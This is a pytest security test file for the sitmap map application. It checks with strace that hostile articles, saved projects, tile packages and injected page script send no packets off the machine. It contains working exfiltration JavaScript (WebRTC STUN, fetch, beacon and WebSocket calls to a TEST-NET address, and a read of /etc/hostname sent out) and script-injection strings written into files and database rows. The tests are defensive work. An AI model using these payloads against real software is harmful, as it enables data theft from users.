"""No packet leaves the machine for hostile files: every connect/sendto/sendmsg/sendmmsg of
the process and its children (Qt WebEngine's renderer, GPU and network processes) is
counted with strace, and none may go to an address outside 127.0.0.0/8 and ::1.

A URL interceptor alone is no proof (WebRTC's STUN packets, DNS prefetch and Chromium's
own background traffic pass it by), so the system calls themselves are watched. Each test
first shows the count catches a real UDP datagram sent to 192.0.2.1 (TEST-NET-1).
"""

from __future__ import annotations

import ipaddress
import json
import re
import shutil
import sqlite3
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from sitmap._paths import seeds_dir
from sitmap.events import build_events
from sitmap.ingest import load
from sitmap.project import Project, Scene
from sitmap.project import SavedView as SceneView

pytestmark = pytest.mark.gui

STRACE = shutil.which("strace")
if STRACE is None:
    pytest.skip("strace is not installed (.ci/run installs it): outgoing packets cannot be "
                "counted without it", allow_module_level=True)

OUTSIDE = "192.0.2.1"  # TEST-NET-1: never routed, so a packet sent there harms nobody

# What a hostile file would like the map page to run: WebRTC to a STUN server (UDP, which
# no URL interceptor sees) in the page and in a fresh frame, fetch and image requests to
# the network, and reading a local file to send it away.
HOSTILE_JS = textwrap.dedent(f"""
    (function () {{
      function stun(P) {{
        try {{
          /* A candidate pool starts gathering (and STUN) at once, without an offer. */
          var pc = new P({{iceServers: [{{urls: "stun:{OUTSIDE}:3478"}}],
                          iceCandidatePoolSize: 2}});
          pc.createDataChannel("x");
          pc.createOffer().then(function (o) {{ return pc.setLocalDescription(o); }});
          (window.__keep = window.__keep || []).push(pc);
        }} catch (e) {{ /* no WebRTC here */ }}
      }}
      stun(window.RTCPeerConnection || window.webkitRTCPeerConnection);
      try {{
        var f = document.createElement("iframe");
        document.body.appendChild(f);
        stun(f.contentWindow.RTCPeerConnection);
      }} catch (e) {{ /* no frame */ }}
      try {{ fetch("http://{OUTSIDE}/f").catch(function () {{}}); }} catch (e) {{}}
      try {{ new Image().src = "http://{OUTSIDE}/i.png"; }} catch (e) {{}}
      try {{ navigator.sendBeacon("http://{OUTSIDE}/b", "x"); }} catch (e) {{}}
      try {{ new WebSocket("ws://{OUTSIDE}/w"); }} catch (e) {{}}
      try {{
        fetch("file:///etc/hostname").then(function (r) {{ return r.text(); }})
          .then(function (t) {{ return fetch("http://{OUTSIDE}/?" + t); }})
          .catch(function () {{}});
      }} catch (e) {{}}
      var l = document.createElement("link");
      l.rel = "dns-prefetch"; l.href = "//sitmap-prefetch.invalid";
      document.head.appendChild(l);
      window.__ran = true;
    }})();
""").strip().replace("\n", " ")

_ADDRESS = re.compile(
    r'sa_family=AF_INET6?,[^}]*?(?:inet_addr\("([^"]+)"\)|inet_pton\(AF_INET6, "([^"]+)")'
)
_TRACED = "connect,sendto,sendmsg,sendmmsg"
# connect() on a UDP socket (strace -yy names the protocol) sends no packet.
_UDP_CONNECT = re.compile(r"connect\(\d+<UDP(?:v6)?:")


def outgoing(log: str) -> list[str]:
    """The traced calls in strace's ``log`` whose address is outside 127.0.0.0/8 and ::1
    (unix and netlink sockets have no such address)."""
    found = []
    for line in log.splitlines():
        for match in _ADDRESS.finditer(line):
            address = ipaddress.ip_address(match.group(1) or match.group(2))
            mapped = getattr(address, "ipv4_mapped", None)
            if not (address.is_loopback or (mapped is not None and mapped.is_loopback)):
                found.append(line)
    return found


def traced(tmp_path: Path, name: str, *command: str) -> tuple[subprocess.CompletedProcess[str],
                                                               list[str]]:
    """Run ``command`` under strace, following every child; return the run and the calls
    that reached outside the machine."""
    log = tmp_path / f"{name}.strace"
    assert STRACE is not None
    run = subprocess.run(
        [STRACE, "-f", "-qq", "-yy", "-e", "signal=none", "-e", f"trace={_TRACED}",
         "-o", str(log),
         *command],
        capture_output=True, text=True, timeout=300, check=False,
    )
    if "ptrace" in run.stderr and not log.exists():
        pytest.skip(f"strace cannot trace here: {run.stderr.strip()[:200]}")
    return run, outgoing(log.read_text(encoding="utf-8", errors="replace"))


def check_the_counter(tmp_path: Path) -> None:
    """The count must be able to fail: a UDP datagram to an outside address is caught."""
    send = ("import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
            f"s.sendto(b'x', ({OUTSIDE!r}, 3478))")
    run, calls = traced(tmp_path, "control", sys.executable, "-c", send)
    assert run.returncode == 0, run.stderr
    assert len(calls) == 1 and OUTSIDE in calls[0]


def sitmap(*args: str) -> tuple[str, ...]:
    return (sys.executable, "-m", "sitmap", *args)


def hostile_folder(root: Path) -> Path:
    """Articles whose markup asks for the network every way HTML and Markdown can."""
    folder = root / "hostile-articles"
    folder.mkdir()
    (folder / "evil.html").write_text(textwrap.dedent(f"""\
        <html><head><title>Protest in Almaty</title>
        <link rel="dns-prefetch" href="//sitmap-prefetch.invalid">
        <link rel="preconnect" href="http://{OUTSIDE}">
        <link rel="stylesheet" href="http://{OUTSIDE}/s.css">
        <meta http-equiv="refresh" content="0; url=http://{OUTSIDE}/">
        </head><body>
        <p>Protesters gathered in Almaty on 5 January 2022.
        <img src="http://{OUTSIDE}/a.png"> <img src="file:///etc/hostname"></p>
        <script>fetch("http://{OUTSIDE}/f")</script>
        <script>{HOSTILE_JS}</script>
        <iframe src="http://{OUTSIDE}/frame"></iframe>
        <p onmouseover="fetch('http://{OUTSIDE}/o')">Police detained 20 people in Almaty on
        6 January 2022.</p>
        </body></html>
        """), encoding="utf-8")
    (folder / "evil.md").write_text(textwrap.dedent(f"""\
        # Clashes in Taraz

        ![map](http://{OUTSIDE}/m.png)

        Clashes erupted in Taraz on 6 January 2022. <img src="http://{OUTSIDE}/b.png">
        See [the source](http://{OUTSIDE}/) and <{OUTSIDE}>.

        Troops were deployed to Shymkent on 7 January 2022 </script><script>{HOSTILE_JS}</script>
        """), encoding="utf-8")
    return folder


def hostile_project(root: Path) -> Path:
    """A project whose saved view and scenes carry script meant for the page."""
    project = Project.new()
    articles = load([seeds_dir()]).articles[:3]
    project.add_articles(articles, events=build_events(articles))
    project.add_scene(Scene(
        caption=f"</script><script>{HOSTILE_JS}</script><img src=x onerror='{HOSTILE_JS}'>",
        view=SceneView(lat=43.2, lon=76.9, zoom=6),
    ))
    path = project.save(root / "hostile.sitmap")
    # Written by the attacker's own sqlite3: sitmap's writer refuses such a view, filter
    # text and highlight (longer than the reader keeps).
    crafted = sqlite3.connect(path)
    with crafted:
        crafted.execute("INSERT OR REPLACE INTO settings VALUES ('view', ?)", (json.dumps({
            "range": None,
            "filters": {"categories": [f"');{HOSTILE_JS}//"], "text": f"\");{HOSTILE_JS}//",
                        "showBackground": True},
            "view": {"lat": f"0, 0, 3);{HOSTILE_JS}//", "lon": 66.0, "zoom": 5},
            "scene": 0,
        }),))
        crafted.execute("UPDATE scenes SET filters = ?, highlighted = ?", (
            json.dumps({"categories": None, "text": f"');{HOSTILE_JS}//",
                        "showBackground": True}),
            json.dumps([f"\");{HOSTILE_JS}//"])))
    crafted.close()
    return path


def test_a_hostile_project_sends_nothing_from_the_window_or_the_export(tmp_path) -> None:
    check_the_counter(tmp_path)
    project = hostile_project(tmp_path)
    picture = tmp_path / "window.png"
    run, calls = traced(tmp_path, "open", *sitmap("open", str(project), "--screenshot",
                                                  str(picture)))
    assert run.returncode == 0, run.stderr
    assert picture.exists()
    assert calls == []
    run, calls = traced(tmp_path, "export", *sitmap("export", str(project), "-o",
                                                    str(tmp_path / "project.html")))
    assert "Traceback" not in run.stderr
    assert calls == []


def test_a_hostile_article_folder_sends_nothing_from_the_window_or_the_export(tmp_path) -> None:
    check_the_counter(tmp_path)
    folder = hostile_folder(tmp_path)
    picture = tmp_path / "window.png"
    run, calls = traced(tmp_path, "open", *sitmap("open", str(folder), "--screenshot",
                                                  str(picture)))
    assert run.returncode == 0, run.stderr
    assert picture.exists()
    assert calls == []
    page = tmp_path / "articles.html"
    run, calls = traced(tmp_path, "export", *sitmap("export", str(folder), "-o", str(page)))
    assert run.returncode == 0, run.stderr
    assert "Almaty" in page.read_text(encoding="utf-8")
    assert calls == []


# Runs a script in the window's page as if it had got in somehow: the lock-down of the page
# and of Chromium, not only the care taken with data, keeps the packets in.
_INSIDE = """
import json, sys
from sitmap.gui import prepare_qt
prepare_qt(headless=True)
from PySide6.QtWidgets import QApplication
app = QApplication(sys.argv[:1])
from sitmap.pipeline import load_events
from sitmap.gui._window import MainWindow
window = MainWindow(settings=None)
window.resize(900, 600)
window.show()
window.show_loaded(load_events([sys.argv[1]]))
window.map.wait_ready()
window.map.page().runJavaScript(json.loads(sys.argv[2]), 0)
window.map.settle(ms=3000)
print(json.dumps(window.map.evaluate(
    "({ran: window.__ran === true, peers: window.__keep ? window.__keep.length : 0})")))
window.close()
"""


def test_a_script_that_got_into_the_page_still_sends_nothing(tmp_path) -> None:
    check_the_counter(tmp_path)
    run, calls = traced(tmp_path, "inside", sys.executable, "-c", _INSIDE, str(seeds_dir()),
                        json.dumps(HOSTILE_JS))
    assert run.returncode == 0, run.stderr
    # No datagram, no TCP connection. The peer connection below still makes Chromium
    # connect() a UDP socket to 8.8.8.8 / 2001:4860:4860::8888 to learn the default route;
    # that sends nothing, so it is the one call let pass here.
    assert [c for c in calls if not _UDP_CONNECT.search(c)] == []
    # The script ran, and made a live peer connection (from a fresh frame's constructor,
    # read before the frame's own start-up script removes it): what keeps its STUN
    # packets in is Chromium's forced WebRTC policy, which this test is there to prove.
    report = json.loads(run.stdout.strip().splitlines()[-1])
    assert report == {"ran": True, "peers": 1}


def test_a_tile_package_sends_nothing_from_the_window_or_the_export(tmp_path) -> None:
    from _tilepacks import png, write_mbtiles

    check_the_counter(tmp_path)
    world = {(z, x, y): png((90, 150, 60 * z)) for z in range(3)
             for x in range(1 << z) for y in range(1 << z)}
    # Its credit is markup asking for the network; it reaches the page as plain text only.
    package = write_mbtiles(tmp_path / "office.mbtiles", world, metadata={
        "attribution": f'<img src="http://{OUTSIDE}/a.png"> © Office'})
    picture = tmp_path / "window.png"
    run, calls = traced(tmp_path, "open", *sitmap("open", str(seeds_dir()), "--tiles",
                                                  str(package), "--screenshot", str(picture)))
    assert run.returncode == 0, run.stderr
    assert picture.exists()
    assert calls == []
    page = tmp_path / "map.html"
    run, calls = traced(tmp_path, "export", *sitmap("export", str(seeds_dir()), "-o", str(page),
                                                    "--tiles", str(package)))
    assert run.returncode == 0, run.stderr
    assert "embedded" in run.stderr
    assert calls == []
